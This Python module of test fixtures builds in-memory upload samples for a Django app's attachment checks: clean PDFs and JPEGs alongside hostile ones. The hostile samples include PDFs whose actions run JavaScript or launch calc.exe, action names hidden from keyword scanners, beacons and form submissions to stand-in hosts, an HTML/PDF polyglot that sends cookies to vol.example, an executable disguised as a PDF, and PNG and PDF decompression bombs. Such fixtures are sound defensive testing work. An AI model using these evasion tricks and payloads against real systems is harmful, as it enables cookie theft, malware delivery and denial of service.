"""Sample attachments built in memory: real files, fake ones and hostile ones."""

import io
import struct
import zlib

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, String
from PIL import Image


def pdf_bytes(change=None, **save_options):
    """A one-page A4 PDF written by qpdf, `change(pdf)` applied first; uncompressed by default."""
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=(595, 842))
        if change:
            change(pdf)
        buffer = io.BytesIO()
        options = {"compress_streams": False, "static_id": True, **save_options}
        pdf.save(buffer, **options)
    return buffer.getvalue()


PDF = pdf_bytes()


def pdf_file(name="deliberation.pdf"):
    return SimpleUploadedFile(name, PDF, content_type="application/pdf")


def open_action(**action):
    def change(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(Dictionary(**action))

    return change


def with_link_and_destination(pdf):
    """What ordinary documents carry: a link to click, and opening on the first page."""
    page = pdf.pages[0]
    link = Dictionary(S=Name.URI, URI=String("https://www.service-public.fr/"))
    page.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 300, 720], A=link)]
    )
    pdf.Root.OpenAction = Array([page.obj, Name.Fit])


def hex_escaped(data, name):
    """`/S /Name` spelled `/S/N#xxme`: same length, so the cross-reference table stays right."""
    escaped = name[:1] + b"#%02x" % name[1] + name[2:]
    assert b" /S /" + name in data
    return data.replace(b" /S /" + name, b"/S/" + escaped)


def javascript_hex_escaped():
    body = pdf_bytes(open_action(S=Name.JavaScript, JS=String("app.alert(1)")))
    return hex_escaped(body, b"JavaScript")


def launch_hex_escaped():
    body = pdf_bytes(open_action(S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe")))
    return hex_escaped(body, b"Launch")


def javascript_in_object_stream():
    """The action packed in a FlateDecode object stream: no `JavaScript` in the file's bytes."""
    return pdf_bytes(
        open_action(S=Name.JavaScript, JS=String("app.alert(1)")),
        compress_streams=True,
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )


def submit_form_on_opening():
    return pdf_bytes(open_action(S=Name.SubmitForm, F=String("https://collecte.example/"), Flags=4))


def uri_on_opening():
    return pdf_bytes(open_action(S=Name.URI, URI=String("https://pistage.example/ouvert")))


def xfa_form():
    def change(pdf):
        xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)

    return pdf_bytes(change)


def html_polyglot():
    """`%PDF-1.4` then a web page: a PDF reader and a browser each find their own document."""
    page = b"<html><script>document.location='https://vol.example/?'+document.cookie</script>\n"
    header, rest = PDF.split(b"\n", 1)
    return header + b"\n" + page + rest


def embedded_file():
    def change(pdf):
        pdf.attachments["notes.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00")

    return pdf_bytes(change)


def page_opening_action():
    def change(pdf):
        pdf.pages[0].AA = Dictionary(
            O=Dictionary(S=Name.URI, URI=String("https://pistage.example/page"))
        )

    return pdf_bytes(change)


def password_protected():
    return pdf_bytes(encryption=pikepdf.Encryption(owner="secret", user="secret"))


def truncated():
    return PDF[: len(PDF) // 2] + b"\n%%EOF\n"


def executable_named_pdf(name="bilan.pdf"):
    body = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200 + b"This program"
    return SimpleUploadedFile(name, body, content_type="application/pdf")


def jpeg_bytes(size=(64, 48), color=(200, 30, 30), with_exif=True):
    image = Image.new("RGB", size, color)
    buffer = io.BytesIO()
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"  # Make
    exif[0x9286] = "commentaire caché"  # UserComment
    image.save(buffer, format="JPEG", exif=exif.tobytes() if with_exif else b"")
    return buffer.getvalue()


def jpeg_file(name="photo.jpg", **kwargs):
    return SimpleUploadedFile(name, jpeg_bytes(**kwargs), content_type="image/jpeg")


def _png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def image_bomb(name="plan.png", side=100_000):
    """A few hundred bytes claiming 10 billion pixels: a decompression bomb."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * 1024)
    body = (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", pixels)
        + _png_chunk(b"IEND", b"")
    )
    return SimpleUploadedFile(name, body, content_type="image/png")


def big_file(name="dossier.pdf", megabytes=30):
    body = b"%PDF-1.4\n" + b"0" * (megabytes * 1024 * 1024) + b"\n%%EOF\n"
    return SimpleUploadedFile(name, body, content_type="application/pdf")


def object_stream_bomb(names=5_000_000):
    """About 15 KB whose FlateDecode object stream unfolds into an array of `names` names:
    hundreds of megabytes once parsed. Written by hand (pikepdf would take seconds to build it),
    with the cross-reference stream that points into the object stream."""
    packed = b"4 0 [" + b"/A " * names + b"]"
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /Extra 4 0 R >>",
        2: b"<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 595 842 ] /Resources << >> >>",
        5: _stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zlib.compress(packed, 9)),
    }
    body, offsets = b"%PDF-1.5\n", {}
    for number, content in objects.items():
        offsets[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    offsets[6] = len(body)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, 7):
        in_stream = number == 4  # object 4 is the first object of the object stream 5
        rows.append(
            struct.pack(">BIH", 2, 5, 0)
            if in_stream
            else struct.pack(">BIH", 1, offsets[number], 0)
        )
    xref = _stream(b"/Type /XRef /Size 7 /W [ 1 4 2 ] /Root 1 0 R", b"".join(rows))
    body += b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (xref, offsets[6])
    return body


def _stream(dictionary, data):
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)
